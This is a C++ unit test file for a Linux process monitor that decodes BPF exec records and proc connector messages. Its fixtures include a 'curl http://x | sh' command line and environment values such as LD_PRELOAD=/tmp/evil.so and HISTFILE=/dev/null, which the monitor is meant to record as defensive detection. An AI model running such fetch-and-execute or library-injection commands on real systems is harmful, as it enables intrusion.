#include "procmond/realtime/decode.h"

#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <linux/types.h>
#include <sys/mman.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cstring>
#include <limits>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "procmond/bpf/exec_events.h"

namespace sentinel::procmond {
namespace {

// An exec record as the BPF program lays it out: header, then path, cwd
// components (leaf first), args and env packed in `data`. `size` is the
// record's real length (header + the parts).
struct Record {
  sentinel_event e{};
  size_t size = 0;
};

Record ExecRecord(std::string_view args, uint32_t flags = 0, std::string_view env = "",
                  std::string_view cwd = std::string_view("tmp\0", 4)) {
  Record r;
  sentinel_event& e = r.e;
  e.type = SENTINEL_EVENT_EXEC;
  e.flags = flags;
  e.ktime_ns = 5'000'000'000ULL;
  e.pid = 4242;
  e.tgid = 4242;
  e.ppid = 17;
  e.uid = 1000;
  e.gid = 100;
  e.euid = 1000;
  e.egid = 100;
  e.cgroup_id = 99;
  e.argc = 3;
  e.start_boottime_ns = 4'990'000'000ULL;
  e.parent_start_boottime_ns = 1'000'000'000ULL;
  std::strcpy(e.comm, "true");
  const char path[] = "/tmp/dir with space/true";
  size_t off = 0;
  auto put = [&](std::string_view part, uint32_t* len) {
    if (!part.empty()) std::memcpy(e.data + off, part.data(), part.size());  // no null source
    *len = static_cast<uint32_t>(part.size());
    off += part.size();
  };
  put(std::string_view(path, sizeof(path)), &e.path_len);
  put(cwd, &e.cwd_len);
  put(args, &e.args_len);
  put(env, &e.env_len);
  e.args_head_len = e.args_len;  // as the program sends a block that fit
  e.env_head_len = e.env_len;
  r.size = offsetof(sentinel_event, data) + off;
  return r;
}

TEST(DecodeBpfRecordTest, ExecCarriesExactArgvWithSpacesQuotesNewlinesAndUnicode) {
  static constexpr char kBlock[] = "prog\0a b \"c\"\0line1\nline2\0h\xc3\xa9llo \xe2\x9c\x93\0\0";
  const std::string block(kBlock, sizeof(kBlock) - 1);  // the last argument is empty
  Record r = ExecRecord(block);
  auto ev = DecodeBpfRecord(&r.e, r.size, 1'000'000'000'000LL);
  ASSERT_TRUE(ev.ok()) << ev.status().message();
  EXPECT_EQ(ev->type, RealtimeEventType::kExec);
  EXPECT_EQ(ev->pid, 4242);
  EXPECT_EQ(ev->ppid, 17);
  EXPECT_EQ(ev->uid, 1000);
  EXPECT_EQ(ev->gid, 100);
  EXPECT_EQ(ev->cgroup_id, 99u);
  EXPECT_EQ(ev->comm, "true");
  EXPECT_EQ(ev->exe_path, "/tmp/dir with space/true");
  EXPECT_EQ(ev->time_ms, (5'000'000'000LL + 1'000'000'000'000LL) / 1'000'000);
  ASSERT_TRUE(ev->argv.has_value());
  EXPECT_EQ(*ev->argv,
            (std::vector<std::string>{"prog", "a b \"c\"", "line1\nline2", "h\xc3\xa9llo \xe2\x9c\x93", ""}));
  EXPECT_FALSE(ev->argv_truncated);
  EXPECT_TRUE(ev->incomplete.empty());
}

TEST(DecodeBpfRecordTest, TruncatedArgvKeepsThePartialLastArgumentAndSaysSo) {
  Record r = ExecRecord(std::string_view("x\0abc", 5), SENTINEL_EVENT_ARGS_TRUNCATED);
  auto ev = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_TRUE(ev.ok());
  EXPECT_EQ(*ev->argv, (std::vector<std::string>{"x", "abc"}));
  EXPECT_TRUE(ev->argv_truncated);
}

// Issue 17 case 2: a block over the bound arrives as its start and its end;
// the argument cut on either side of the gap stays an argument of its own.
TEST(DecodeBpfRecordTest, TruncatedArgvIsItsStartAndItsEndWithTheWholeLength) {
  const std::string head("sh\0-c\0    ", 10);
  const std::string tail("  curl http://x | sh\0", 21);
  Record r = ExecRecord(head + tail, SENTINEL_EVENT_ARGS_TRUNCATED);
  r.e.args_head_len = static_cast<uint32_t>(head.size());
  r.e.args_size = 9000;
  auto ev = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_TRUE(ev.ok());
  EXPECT_EQ(*ev->argv, (std::vector<std::string>{"sh", "-c", "    ", "  curl http://x | sh"}));
  EXPECT_TRUE(ev->argv_truncated);
  EXPECT_EQ(ev->args_length, 9000);
  // A head_len past the block (a garbled record) is bounded by it.
  r.e.args_head_len = 1u << 30;
  ev = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_TRUE(ev.ok());
  EXPECT_EQ(ev->argv->size(), 3u);
}

TEST(HeadAndTailTest, TheGapEndingAnArgumentAddsNoEmptyOneAndTheEnvironmentDropsTheCutEntry) {
  EXPECT_EQ(ArgvFromHeadAndTail(std::string_view("a\0b\0\0c\0", 7), 4),
            (std::vector<std::string>{"a", "b", "c"}));
  // The end part starts inside "XLD_PRELOAD=...": the cut entry reads as
  // LD_PRELOAD but is not trusted.
  using namespace std::string_literals;
  const std::string env = "HISTFILE=/dev/null\0"s + "XLD_PRELOAD=/cut\0"s + "LD_AUDIT=/a.so\0"s;
  const size_t head = 19;  // "HISTFILE=/dev/null\0"
  const std::string captured = env.substr(0, head) + env.substr(head + 1);
  ExecEnv got = EnvironmentFromHeadAndTail(captured, head, true);
  EXPECT_EQ(got.vars, (std::vector<std::pair<std::string, std::string>>{{"HISTFILE", "/dev/null"},
                                                                        {"LD_AUDIT", "/a.so"}}));
  EXPECT_TRUE(got.truncated);
}

TEST(DecodeBpfRecordTest, UnreadableArgvAndPathAreReportedNotInvented) {
  Record r = ExecRecord("", SENTINEL_EVENT_ARGS_FAULT | SENTINEL_EVENT_PATH_FAULT | SENTINEL_EVENT_ENV_FAULT |
                                SENTINEL_EVENT_CWD_FAULT);
  r.e.path_len = 0;
  auto ev = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_TRUE(ev.ok());
  EXPECT_FALSE(ev->argv.has_value());
  EXPECT_FALSE(ev->exe_path.has_value());
  EXPECT_FALSE(ev->env.has_value());
  EXPECT_FALSE(ev->cwd.has_value());
  EXPECT_EQ(ev->incomplete, "path_unreadable,argv_unreadable,env_unreadable,cwd_unreadable");
}

TEST(DecodeBpfRecordTest, ExitRecordIsHeaderOnlyAndDecodesTheWaitStatus) {
  sentinel_event e{};
  e.type = SENTINEL_EVENT_EXIT;
  e.tgid = 7;
  e.pid = 7;
  e.exit_code = 3 << 8;
  const size_t header = SENTINEL_HEADER_SIZE;
  auto ev = DecodeBpfRecord(&e, header, 0);
  ASSERT_TRUE(ev.ok()) << ev.status().message();
  EXPECT_EQ(ev->type, RealtimeEventType::kExit);
  EXPECT_EQ(ev->exit_code, 3);
  e.exit_code = 9;  // SIGKILL
  ev = DecodeBpfRecord(&e, header, 0);
  EXPECT_EQ(ev->exit_code, 128 + 9);
}

TEST(DecodeBpfRecordTest, RejectsShortRecordsUnknownTypesAndLengthsPastTheBuffers) {
  Record r = ExecRecord("a");
  EXPECT_FALSE(DecodeBpfRecord(&r.e, 8, 0).ok());
  EXPECT_FALSE(DecodeBpfRecord(&r.e, SENTINEL_HEADER_SIZE, 0).ok()) << "an exec record needs its body";
  r.e.args_len = SENTINEL_EXEC_ARGS_MAX + 1;
  auto bad = DecodeBpfRecord(&r.e, sizeof(r.e), 0);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("args_len"), std::string::npos);
  for (uint32_t sentinel_event::*len :
       {&sentinel_event::path_len, &sentinel_event::cwd_len, &sentinel_event::env_len}) {
    r = ExecRecord("a");
    r.e.*len = SENTINEL_EXEC_DATA_MAX;
    EXPECT_FALSE(DecodeBpfRecord(&r.e, sizeof(r.e), 0).ok()) << "a length past its bound";
  }
  // Records carry only the bytes used: exactly that much is accepted, one
  // byte less (the last part past the record) is not.
  r = ExecRecord(std::string_view("ab\0cd", 5), 0, std::string_view("LD_AUDIT=x", 10));
  auto ok = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_TRUE(ok.ok()) << ok.status().ToString();
  EXPECT_EQ(ok->argv, (std::vector<std::string>{"ab", "cd"}));
  bad = DecodeBpfRecord(&r.e, r.size - 1, 0);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("past its"), std::string::npos) << bad.status().message();
  r = ExecRecord("a");
  r.e.type = 77;
  bad = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("unknown type 77"), std::string::npos);
}

TEST(DecodeBpfRecordTest, ExecContextCredentialsTerminalLoginUidImageAndStartTimes) {
  static constexpr char kCwd[] = "c d\0b\0a\0";  // leaf first: /a/b/c d
  Record r = ExecRecord(std::string_view("x\0", 2),
                        SENTINEL_EVENT_HAS_TTY | SENTINEL_EVENT_HAS_LOGINUID | SENTINEL_EVENT_HAS_FILE, "",
                        std::string_view(kCwd, sizeof(kCwd) - 1));
  r.e.tty_major = 136;  // pts
  r.e.tty_minor = 3;
  r.e.loginuid = 1001;
  r.e.file_dev = (253u << 20) | 1;
  r.e.file_ino = 77;
  r.e.file_size = 4096;
  r.e.file_mtime_sec = 10;
  r.e.file_mtime_nsec = 5;
  r.e.file_ctime_sec = 11;
  r.e.file_ctime_nsec = 6;
  r.e.file_nlink = 1;
  auto ev = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_TRUE(ev.ok()) << ev.status().message();
  EXPECT_EQ(ev->cwd, "/a/b/c d");
  EXPECT_EQ(ev->tty, "pts/3");
  EXPECT_EQ(ev->login_uid, 1001);
  EXPECT_EQ(ev->euid, 1000);
  EXPECT_EQ(ev->cred_change, false);
  EXPECT_EQ(ev->start_boottime_ns, 4'990'000'000ULL);
  EXPECT_EQ(ev->parent_start_boottime_ns, 1'000'000'000ULL);
  ASSERT_TRUE(ev->image.has_value());
  EXPECT_EQ(ev->image->dev, makedev(253, 1));
  EXPECT_EQ(ev->image->ino, 77u);
  EXPECT_EQ(ev->image->mtime_ns, 10'000'000'005);
  EXPECT_EQ(ev->image->ctime_ns, 11'000'000'006);
  ASSERT_TRUE(ev->env.has_value());
  EXPECT_TRUE(ev->env->vars.empty());

  // Unset login uid, no terminal, no image: empty, not invented.
  r = ExecRecord(std::string_view("x\0", 2), SENTINEL_EVENT_HAS_LOGINUID, "", std::string_view());
  r.e.loginuid = 4294967295u;
  ev = DecodeBpfRecord(&r.e, r.size, 0);
  ASSERT_TRUE(ev.ok());
  EXPECT_FALSE(ev->login_uid.has_value());
  EXPECT_FALSE(ev->tty.has_value());
  EXPECT_FALSE(ev->image.has_value());
  EXPECT_EQ(ev->cwd, "/") << "no component: the root";
}

TEST(DecodeBpfRecordTest, CredentialChangeIsSecureExecOrEffectiveIdsThatDiffer) {
  Record r = ExecRecord("", SENTINEL_EVENT_SECUREEXEC);
  EXPECT_EQ(DecodeBpfRecord(&r.e, r.size, 0)->cred_change, true) << "file capabilities: AT_SECURE only";
  r = ExecRecord("");
  r.e.euid = 0;  // setuid root
  EXPECT_EQ(DecodeBpfRecord(&r.e, r.size, 0)->cred_change, true);
  r = ExecRecord("");
  r.e.egid = 5;  // setgid
  EXPECT_EQ(DecodeBpfRecord(&r.e, r.size, 0)->cred_change, true);
}

TEST(DecodeBpfRecordTest, DeletedAndTooDeepWorkingDirectories) {
  Record r = ExecRecord("", SENTINEL_EVENT_CWD_DELETED, "", std::string_view("gone\0tmp\0", 9));
  EXPECT_EQ(DecodeBpfRecord(&r.e, r.size, 0)->cwd, "/tmp/gone (deleted)");
  r = ExecRecord("", SENTINEL_EVENT_CWD_TRUNCATED, "", std::string_view("leaf\0", 5));
  auto ev = DecodeBpfRecord(&r.e, r.size, 0);
  EXPECT_FALSE(ev->cwd.has_value()) << "a partial path would name another directory";
  EXPECT_EQ(ev->incomplete, "cwd_truncated");
}

TEST(FilterEnvironmentTest, KeepsOnlyAllowListedVariablesFirstOccurrenceValuesCutAndFlagged) {
  const std::string long_value(kEnvValueMax + 10, 'v');
  using namespace std::string_literals;
  const std::string block = "HOME=/root\0LD_PRELOAD=/tmp/evil.so\0SECRET_TOKEN=hunter2\0"s +
                            "LD_PRELOAD=/second.so\0HISTFILE=/dev/null\0NOEQUALS\0PROMPT_COMMAND="s +
                            long_value + "\0LD_PRELOADX=no\0AWS_SECRET_ACCESS_KEY=zzz\0ENV=/tmp/e\0"s;
  ExecEnv env = FilterEnvironment(block, false);
  ASSERT_EQ(env.vars.size(), 4u);
  EXPECT_EQ(env.vars[0], (std::pair<std::string, std::string>{"LD_PRELOAD", "/tmp/evil.so"}));
  EXPECT_EQ(env.vars[1], (std::pair<std::string, std::string>{"HISTFILE", "/dev/null"}));
  EXPECT_EQ(env.vars[2].first, "PROMPT_COMMAND");
  EXPECT_EQ(env.vars[2].second, long_value.substr(0, kEnvValueMax));
  EXPECT_EQ(env.vars[3], (std::pair<std::string, std::string>{"ENV", "/tmp/e"}));
  EXPECT_TRUE(env.truncated) << "a value was cut";
  for (const auto& [name, value] : env.vars) {
    EXPECT_EQ(value.find("hunter2"), std::string::npos);
    EXPECT_EQ(value.find("zzz"), std::string::npos);
  }

  env = FilterEnvironment(std::string_view("LD_AUDIT=a\0LD_LIBR", 19), true);
  ASSERT_EQ(env.vars.size(), 1u);
  EXPECT_TRUE(env.truncated) << "the block was cut at its bound";
  env = FilterEnvironment("", false);
  EXPECT_TRUE(env.vars.empty());
  EXPECT_FALSE(env.truncated);
}

TEST(CwdFromComponentsTest, LeafFirstComponentsJoinedFromTheRoot) {
  EXPECT_EQ(CwdFromComponents(""), "/");
  EXPECT_EQ(CwdFromComponents(std::string_view("home\0", 5)), "/home");
  EXPECT_EQ(CwdFromComponents(std::string_view("c\0b\0a\0", 6)), "/a/b/c");
  EXPECT_EQ(CwdFromComponents(std::string_view("x\ny\0a\0", 6)), "/a/x\ny") << "names are kept as they are";
}

TEST(ExitCodeTest, WaitStatusToShellConvention) {
  EXPECT_EQ(ExitCodeFromWaitStatus(0), 0);
  EXPECT_EQ(ExitCodeFromWaitStatus(1 << 8), 1);
  EXPECT_EQ(ExitCodeFromWaitStatus(255 << 8), 255);
  EXPECT_EQ(ExitCodeFromWaitStatus(15), 143);
  EXPECT_EQ(ExitCodeFromWaitStatus(6 | 0x80), 134) << "core dumped: the signal still counts";
}

TEST(EpochMsTest, AGarbledTimestampSaturatesInsteadOfOverflowing) {
  // Found by fuzz/realtime_decode_fuzz: a record's ktime_ns near 2^63 plus
  // the boot offset overflowed int64_t (undefined behaviour; a wrapped,
  // negative time otherwise).
  constexpr int64_t kBootOffsetNs = 1'700'000'000'000'000'000;
  EXPECT_EQ(EpochMsFromClockNs(5'000'000'000ULL, kBootOffsetNs), 1'700'000'005'000);
  const int64_t kMaxMs = std::numeric_limits<int64_t>::max() / 1'000'000;
  EXPECT_EQ(EpochMsFromClockNs(8'942'320'372'120'813'697ULL, kBootOffsetNs), kMaxMs);
  EXPECT_EQ(EpochMsFromClockNs(std::numeric_limits<uint64_t>::max(), 0), kMaxMs);

  Record r = ExecRecord(std::string_view("x\0", 2));
  r.e.ktime_ns = 8'942'320'372'120'813'697ULL;
  auto ev = DecodeBpfRecord(&r.e, r.size, kBootOffsetNs);
  ASSERT_TRUE(ev.ok()) << ev.status().message();
  EXPECT_EQ(ev->time_ms, kMaxMs);
}

using EventData = decltype(proc_event::event_data);

std::vector<char> ConnectorMessage(uint32_t what, const EventData& data, size_t cut = 0) {
  std::vector<char> buf(NLMSG_SPACE(sizeof(cn_msg) + sizeof(proc_event)), 0);
  nlmsghdr nh{};
  nh.nlmsg_len = static_cast<uint32_t>(NLMSG_LENGTH(sizeof(cn_msg) + sizeof(proc_event)) - cut);
  cn_msg msg{};
  msg.id.idx = CN_IDX_PROC;
  msg.id.val = CN_VAL_PROC;
  msg.len = static_cast<uint16_t>(sizeof(proc_event) - cut);
  proc_event ev{};
  ev.what = static_cast<decltype(ev.what)>(what);
  ev.timestamp_ns = 123;
  ev.event_data = data;
  std::memcpy(buf.data(), &nh, sizeof(nh));
  std::memcpy(buf.data() + NLMSG_HDRLEN, &msg, sizeof(msg));
  std::memcpy(buf.data() + NLMSG_HDRLEN + sizeof(msg), &ev, sizeof(ev));
  buf.resize(nh.nlmsg_len);
  return buf;
}

TEST(DecodeProcConnectorTest, ForkExecExit) {
  EventData d{};
  d.fork.parent_pid = 10;
  d.fork.parent_tgid = 10;
  d.fork.child_pid = 11;
  d.fork.child_tgid = 11;
  auto m = ConnectorMessage(proc_event::PROC_EVENT_FORK, d);
  auto ev = DecodeProcConnector(m.data(), m.size());
  ASSERT_TRUE(ev.ok()) << ev.status().message();
  EXPECT_EQ(ev->what, ProcConnectorEvent::What::kFork);
  EXPECT_EQ(ev->pid, 11);
  EXPECT_EQ(ev->parent, 10);
  EXPECT_EQ(ev->timestamp_ns, 123u);

  d = {};
  d.exec.process_pid = 12;
  d.exec.process_tgid = 11;
  m = ConnectorMessage(proc_event::PROC_EVENT_EXEC, d);
  ev = DecodeProcConnector(m.data(), m.size());
  ASSERT_TRUE(ev.ok());
  EXPECT_EQ(ev->what, ProcConnectorEvent::What::kExec);
  EXPECT_EQ(ev->pid, 11);
  EXPECT_EQ(ev->thread, 12);

  d = {};
  d.exit.process_pid = 11;
  d.exit.process_tgid = 11;
  d.exit.exit_code = 2 << 8;
  d.exit.parent_tgid = 10;
  m = ConnectorMessage(proc_event::PROC_EVENT_EXIT, d);
  ev = DecodeProcConnector(m.data(), m.size());
  ASSERT_TRUE(ev.ok());
  EXPECT_EQ(ev->what, ProcConnectorEvent::What::kExit);
  EXPECT_EQ(ExitCodeFromWaitStatus(ev->exit_status), 2);
  EXPECT_EQ(ev->parent, 10);

  d = {};
  d.id.process_pid = 13;
  d.id.process_tgid = 11;
  d.id.r.ruid = 1000;
  d.id.e.euid = 0;
  m = ConnectorMessage(proc_event::PROC_EVENT_UID, d);
  ev = DecodeProcConnector(m.data(), m.size());
  ASSERT_TRUE(ev.ok());
  EXPECT_EQ(ev->what, ProcConnectorEvent::What::kUid);
  EXPECT_EQ(ev->pid, 11);
  EXPECT_EQ(ev->thread, 13);
  EXPECT_EQ(ev->ruid, 1000);
  EXPECT_EQ(ev->euid, 0);
}

TEST(DecodeProcConnectorTest, RejectsForeignAndTruncatedMessages) {
  EventData d{};
  auto m = ConnectorMessage(proc_event::PROC_EVENT_EXEC, d);
  EXPECT_FALSE(DecodeProcConnector(m.data(), 10).ok());
  auto lying = m;
  nlmsghdr nh{};
  std::memcpy(&nh, lying.data(), sizeof(nh));
  nh.nlmsg_len = 4096;
  std::memcpy(lying.data(), &nh, sizeof(nh));
  EXPECT_FALSE(DecodeProcConnector(lying.data(), lying.size()).ok());
  auto foreign = m;
  cn_msg msg{};
  std::memcpy(&msg, foreign.data() + NLMSG_HDRLEN, sizeof(msg));
  msg.id.idx = 7;
  std::memcpy(foreign.data() + NLMSG_HDRLEN, &msg, sizeof(msg));
  auto r = DecodeProcConnector(foreign.data(), foreign.size());
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("not from the proc connector"), std::string::npos);
  auto cut = ConnectorMessage(proc_event::PROC_EVENT_EXEC, d, 20);
  EXPECT_FALSE(DecodeProcConnector(cut.data(), cut.size()).ok());
}

// `bytes` copied to the very end of a readable page followed by an inaccessible one, so reading
// one byte past them faults instead of passing unnoticed.
class GuardedBuffer {
 public:
  explicit GuardedBuffer(const std::vector<char>& bytes) {
    page_ = static_cast<size_t>(::sysconf(_SC_PAGESIZE));
    void* p = ::mmap(nullptr, 2 * page_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) return;
    base_ = static_cast<char*>(p);
    if (::mprotect(base_ + page_, page_, PROT_NONE) != 0) return;
    data_ = base_ + page_ - bytes.size();
    std::memcpy(data_, bytes.data(), bytes.size());
  }
  ~GuardedBuffer() {
    if (base_ != nullptr) ::munmap(base_, 2 * page_);
  }
  GuardedBuffer(const GuardedBuffer&) = delete;
  GuardedBuffer& operator=(const GuardedBuffer&) = delete;
  const char* data() const { return data_; }

 private:
  size_t page_ = 0;
  char* base_ = nullptr;
  char* data_ = nullptr;
};

// A message of exactly nlmsghdr + cn_msg whose cn_msg claims a payload: the decoder read the
// event's first 4 bytes ("what") past the end of the message (issue 14, item 11).
TEST(DecodeProcConnectorTest, MinimumLengthMessageIsRefusedWithoutReadingPastIt) {
  for (uint16_t claimed : {uint16_t{4}, uint16_t{sizeof(proc_event)}}) {
    std::vector<char> bytes(NLMSG_HDRLEN + sizeof(cn_msg), 0);
    nlmsghdr nh{};
    nh.nlmsg_len = static_cast<uint32_t>(bytes.size());
    cn_msg msg{};
    msg.id.idx = CN_IDX_PROC;
    msg.id.val = CN_VAL_PROC;
    msg.len = claimed;
    std::memcpy(bytes.data(), &nh, sizeof(nh));
    std::memcpy(bytes.data() + NLMSG_HDRLEN, &msg, sizeof(msg));
    GuardedBuffer guarded(bytes);
    ASSERT_NE(guarded.data(), nullptr) << "mmap/mprotect failed";
    auto r = DecodeProcConnector(guarded.data(), bytes.size());
    ASSERT_FALSE(r.ok()) << "a message without its event decoded (cn_msg.len " << claimed << ")";
    EXPECT_NE(r.status().message().find("too short"), std::string::npos) << r.status().message();
  }
}

// The subscription's ack (PROC_EVENT_NONE) still decodes when its 4 bytes are in the message.
TEST(DecodeProcConnectorTest, AckWithOnlyTheWhatFieldDecodesAsNone) {
  std::vector<char> bytes(NLMSG_HDRLEN + sizeof(cn_msg) + sizeof(uint32_t), 0);
  nlmsghdr nh{};
  nh.nlmsg_len = static_cast<uint32_t>(bytes.size());
  cn_msg msg{};
  msg.id.idx = CN_IDX_PROC;
  msg.id.val = CN_VAL_PROC;
  msg.len = sizeof(uint32_t);
  std::memcpy(bytes.data(), &nh, sizeof(nh));
  std::memcpy(bytes.data() + NLMSG_HDRLEN, &msg, sizeof(msg));
  GuardedBuffer guarded(bytes);
  ASSERT_NE(guarded.data(), nullptr) << "mmap/mprotect failed";
  auto r = DecodeProcConnector(guarded.data(), bytes.size());
  ASSERT_TRUE(r.ok()) << r.status().message();
  EXPECT_EQ(r->what, ProcConnectorEvent::What::kNone);
}

TEST(DecodeProcConnectorTest, AMinimumLengthMessageIsNotReadPastItsEnd) {
  // Found by fuzz/realtime_decode_fuzz (ASan: a 4-byte read past a 36-byte message): a message
  // of exactly nlmsghdr + cn_msg whose cn_msg.len claims an event had its event type read from
  // the bytes after it. Here those bytes hold PROC_EVENT_NONE, which made it an "ack".
  std::vector<char> buf(NLMSG_HDRLEN + sizeof(cn_msg) + sizeof(uint32_t), 0);
  nlmsghdr nh{};
  nh.nlmsg_len = static_cast<uint32_t>(NLMSG_HDRLEN + sizeof(cn_msg));
  cn_msg msg{};
  msg.id.idx = CN_IDX_PROC;
  msg.id.val = CN_VAL_PROC;
  msg.len = static_cast<uint16_t>(sizeof(proc_event));
  std::memcpy(buf.data(), &nh, sizeof(nh));
  std::memcpy(buf.data() + NLMSG_HDRLEN, &msg, sizeof(msg));
  auto r = DecodeProcConnector(buf.data(), NLMSG_HDRLEN + sizeof(cn_msg));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("too short"), std::string::npos) << r.status().message();
}

}  // namespace
}  // namespace sentinel::procmond
